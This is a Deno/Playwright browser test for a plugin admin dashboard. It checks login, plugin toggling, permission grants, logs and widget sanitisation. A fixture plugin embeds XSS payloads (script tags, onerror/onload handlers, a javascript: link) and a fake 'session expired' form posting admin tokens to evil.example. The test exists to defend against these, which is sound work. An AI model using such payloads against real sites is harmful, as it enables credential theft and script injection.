// Browser acceptance test: Debian's /usr/bin/chromium driven by
// npm:playwright-core against a real server on 127.0.0.1. Logs in with an
// admin token, sees the plugin list, disables and enables a plugin (its route
// answers 503 and comes back), views and filters logs, sees the dashboard widgets in
// order with auto-refresh, and checks that a widget's <script> and onerror
// never execute, and that a widget's own refresh attributes (issue 10 item
// 8: data-refresh-url to another site or to /admin/logout, a fake token
// form) are gone: the dashboard only ever fetches /admin/widgets/….

import {
  hasChromium,
  launchChromium,
  SCREENSHOT_DIR,
} from "./helpers/browser.ts";
import { MemoryGrantStore } from "../permissions/grants.ts";
import { Manager } from "../host/manager.ts";
import {
  createApp,
  MemoryTokenStore,
  routeCollisionCheck,
} from "../host/server/mod.ts";
import {
  assert,
  assertEquals,
  assertMatch,
  nativePlugin,
} from "./server_helpers.ts";

Deno.test({
  name:
    "browser: login, plugin list, disable/enable, logs, dashboard widgets, no script execution",
  // Chromium is required (CI installs the `chromium` apt package); without it
  // the test cannot run at all, so it is ignored rather than failed.
  ignore: !hasChromium,
  // playwright-core keeps internal timers and pipes alive until its event
  // loop drains after browser.close(); Deno's op/resource sanitizers flag them.
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    let manager: Manager | undefined = undefined;
    manager = new Manager({
      manifestChecks: [routeCollisionCheck(() => manager)],
    });
    const m: Manager = manager;
    const tokens = new MemoryTokenStore();
    const { token } = await tokens.create({ name: "admin", admin: true });
    const grants = new MemoryGrantStore();
    await grants.set("hello", ["db:read"]);
    const server = createApp({
      manager: m,
      tokens,
      grants: {
        granted: async (p) => (await grants.get(p)) ?? [],
        approve: async (p, perms) => {
          await grants.set(p, [
            ...new Set([...(await grants.get(p)) ?? [], ...perms]),
          ]);
        },
        revoke: (p, perms) => grants.revoke(p, perms),
      },
      title: "GoatKit test",
    });
    let ticks = 0;
    let evilRenders = 0;
    await m.register(nativePlugin({
      name: "hello",
      version: "1.4.2",
      description: "Says hello from a native plugin",
      author: "GoatKit",
      permissions: ["db:read", "cache:write", "log"],
      routes: [{ method: "GET", path: "/api/plugins/hello", handler: "hello" }],
      menu_items: [
        {
          id: "hello-b",
          label: "Hello second",
          path: "/api/plugins/hello",
          location: "admin",
          order: 20,
        },
        {
          id: "hello-a",
          label: "Hello first",
          path: "/admin/plugins/hello",
          location: "admin",
          order: 10,
        },
      ],
      widgets: [{
        id: "clock",
        title: "Ticker",
        handler: "ticker",
        location: "dashboard",
        size: "medium",
        order: 20,
        refreshable: true,
        refresh_sec: 1,
      }],
    }, {
      hello: () => ({ message: "Hello, World!" }),
      ticker: () => ({ html: `<p class="tick">tick ${++ticks}</p>` }),
    }));
    await m.register(nativePlugin({
      name: "evil",
      version: "0.0.1",
      description: `<script>window.__pwned = "description"</script>`,
      widgets: [{
        id: "xss",
        title: `<img src=x onerror="window.__pwned='title'">Evil`,
        handler: "xss",
        location: "dashboard",
        order: 10,
        refreshable: true,
        refresh_sec: 1,
      }],
    }, {
      xss: () => ({
        html: `<p class="evil-ok">evil widget body</p>` +
          `<p class="evil-n">render ${++evilRenders}</p>` +
          `<div class="fake" data-refresh-url="https://evil.example/x" data-refresh-sec="1"` +
          ` data-gk-refresh-url="/admin/logout" data-gk-refresh-sec="1">` +
          `<form action="https://evil.example/steal" method="post"><p>Session expired: enter your admin token</p>` +
          `<input id="fake-token" name="token" type="password"><button>Log in</button></form></div>` +
          `<script>window.__pwned = "script"</script>` +
          `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="window.__pwned='onerror'" onload="window.__pwned='onload'">` +
          `<a href="javascript:window.__pwned='href'" id="evil-link">link</a>`,
      }),
    }));

    const ac = new AbortController();
    let listen: (a: Deno.NetAddr) => void;
    const listening = new Promise<Deno.NetAddr>((r) => listen = r);
    const http = Deno.serve({
      port: 0,
      hostname: "127.0.0.1",
      signal: ac.signal,
      onListen: (a) => listen(a as Deno.NetAddr),
    }, server.fetch);
    const base = `http://127.0.0.1:${(await listening).port}`;
    const browser = await launchChromium();
    try {
      const page = await browser.newPage({
        viewport: { width: 1280, height: 860 },
      });
      page.setDefaultTimeout(30_000);
      const pageErrors: string[] = [];
      page.on("pageerror", (e) => pageErrors.push(String(e)));
      // Host pages must not need anything the CSP forbids (inline styles,
      // inline scripts, eval): every violation is a console error.
      const cspViolations: string[] = [];
      page.on("console", (m) => {
        if (/Content Security Policy/i.test(m.text())) {
          cspViolations.push(m.text());
        }
      });

      // Log in.
      await page.goto(`${base}/admin/plugins`);
      assertMatch(page.url(), /\/login\?next=/);
      await page.fill("#token", token);
      await page.click("button[type=submit]");
      await page.waitForURL(`${base}/admin/plugins`);

      // Plugin list.
      const rows = page.locator("#plugins tbody tr");
      assertEquals(await rows.count(), 2);
      const helloRow = page.locator('tr[data-plugin="hello"]');
      assertMatch(
        await helloRow.innerText(),
        /1\.4\.2[\s\S]*native[\s\S]*pending grants/,
      );
      assertMatch(await helloRow.innerText(), /1\/3 granted[\s\S]*1 to review/);
      assertEquals(
        await page.evaluate(() => (globalThis as { __pwned?: string }).__pwned),
        undefined,
      );
      if (SCREENSHOT_DIR) {
        await page.screenshot({
          path: `${SCREENSHOT_DIR}/goatkit-plugins.png`,
          fullPage: true,
        });
      }

      // Menu items in the navigation, sorted by order.
      const menu = await page.locator("ul.plugin-menu > li > a")
        .allInnerTexts();
      assertEquals(menu, ["Hello first", "Hello second"]);

      // Disable: the route answers 503 (plugin unavailable) at once; enable: back.
      const routeStatus = () =>
        page.evaluate(
          async (u) => (await fetch(u)).status,
          `${base}/api/plugins/hello`,
        );
      assertEquals(await routeStatus(), 200);
      await helloRow.locator("button", { hasText: "Disable" }).click();
      await page.waitForSelector(
        'tr[data-plugin="hello"] [data-status="disabled"]',
      );
      assertEquals(await routeStatus(), 503);
      await page.locator('tr[data-plugin="hello"] button', {
        hasText: "Enable",
      }).click();
      await page.waitForSelector(
        'tr[data-plugin="hello"] [data-status="pending-grants"]',
      );
      assertEquals(await routeStatus(), 200);

      // Details page: what is not granted yet is pre-selected; approve it.
      await page.click('a[href="/admin/plugins/hello"] >> nth=0');
      await page.waitForURL(`${base}/admin/plugins/hello`);
      const perms = page.locator("#permissions");
      assertMatch(
        await perms.innerText(),
        /1 requested permission\(s\) are not granted[\s\S]*cache:write/,
      );
      assertEquals(
        await perms.locator('input[value="cache:write"]').isChecked(),
        true,
      );
      assertEquals(
        await perms.locator('input[value="db:read"]').isChecked(),
        false,
      );
      await perms.locator("button", { hasText: "Approve selected" }).click();
      await page.waitForURL(/done=granted/);
      assertMatch(
        await page.locator("#permissions").innerText(),
        /Everything requested is granted/,
      );
      assertEquals((await grants.get("hello"))?.sort(), [
        "cache:write",
        "db:read",
      ]);

      // Logs, with a filter.
      await page.click('nav a[href="/admin/logs"]');
      await page.waitForURL(`${base}/admin/logs`);
      const logText = await page.locator("#logs").innerText();
      assertMatch(logText, /plugin "hello" 1\.4\.2 registered/);
      assertMatch(logText, /plugin "evil" 0\.0\.1 registered/);
      await page.selectOption('select[name="plugin"]', "evil");
      await page.waitForURL(/plugin=evil/);
      const filtered = await page.locator("#logs tbody").innerText();
      assert(!filtered.includes('"hello"'), filtered);
      // Auto-refresh picks up new lines without a reload.
      m.logs.log("evil", "info", "fresh line from the test");
      await page.locator("#logs tbody", { hasText: "fresh line from the test" })
        .waitFor({
          timeout: 30_000,
        });

      // Dashboard: widgets in order, sanitised, auto-refreshing; nothing executes.
      // Every request the dashboard makes from now on is recorded.
      const fetched: string[] = [];
      page.on("request", (r) => {
        if (["fetch", "xhr"].includes(r.resourceType())) fetched.push(r.url());
      });
      const anyRequest: string[] = [];
      page.on("request", (r) => anyRequest.push(r.url()));
      await page.click('nav a[href="/admin/dashboard"]');
      await page.waitForURL(`${base}/admin/dashboard`);
      const titles = await page.locator(".widget header span:first-child")
        .allInnerTexts();
      assertEquals(titles.length, 2);
      assertMatch(titles[0]!, /<img src=x onerror=.*Evil/); // shown as text
      assertEquals(titles[1], "Ticker");
      assertEquals(
        await page.locator(".evil-ok").innerText(),
        "evil widget body",
      );
      assertEquals(await page.locator(".widget script").count(), 0);
      const first = await page.locator(".tick").innerText();
      await page.locator(".tick", { hasNotText: new RegExp(`^${first}$`) })
        .waitFor({
          timeout: 30_000,
        });
      // The evil widget has been refreshed too (innerHTML path): still nothing ran.
      const firstEvil = await page.locator(".evil-n").innerText();
      await page.locator(".evil-n", {
        hasNotText: new RegExp(`^${firstEvil}$`),
      }).waitFor({ timeout: 30_000 });
      // Its refresh attributes and fake form are gone, before and after
      // the refresh, and only the host's widget endpoints were fetched.
      assertEquals(await page.locator(".fake").count(), 1);
      assertEquals(await page.locator("#fake-token").count(), 0);
      assertEquals(await page.locator(".widget form").count(), 0);
      assertEquals(await page.locator("[data-refresh-url]").count(), 0);
      assertEquals(
        await page.locator(".widget .body [data-gk-refresh-url]").count(),
        0,
      );
      assert(fetched.length >= 2, `refreshes: ${fetched}`);
      for (const u of fetched) {
        assertMatch(
          u,
          new RegExp(
            `^${
              base.replaceAll(".", "\\.")
            }/admin/widgets/(hello/clock|evil/xss)$`,
          ),
        );
      }
      assert(
        !anyRequest.some((u) => /evil\.example|\/admin\/logout/.test(u)),
        `requests: ${anyRequest}`,
      );
      await page.locator("#evil-link").click().catch(() => {});
      if (SCREENSHOT_DIR) {
        await page.screenshot({
          path: `${SCREENSHOT_DIR}/goatkit-dashboard.png`,
          fullPage: true,
        });
      }
      assertEquals(
        await page.evaluate(() => (globalThis as { __pwned?: string }).__pwned),
        undefined,
      );
      assertEquals(pageErrors, []);
      assertEquals(cspViolations, []);

      // The remaining pages render without CSP violations or script errors.
      for (const path of ["/admin/jobs", "/admin/audit", "/admin/tokens"]) {
        const res = await page.goto(`${base}${path}`);
        assertEquals(res?.status(), 200, path);
      }
      assertEquals(cspViolations, []);

      // Log out.
      await page.click("form.logout button");
      await page.waitForURL(`${base}/login`);
    } finally {
      await browser.close();
      ac.abort();
      await http.finished;
      server.close();
      await m.shutdownAll();
    }
  },
});
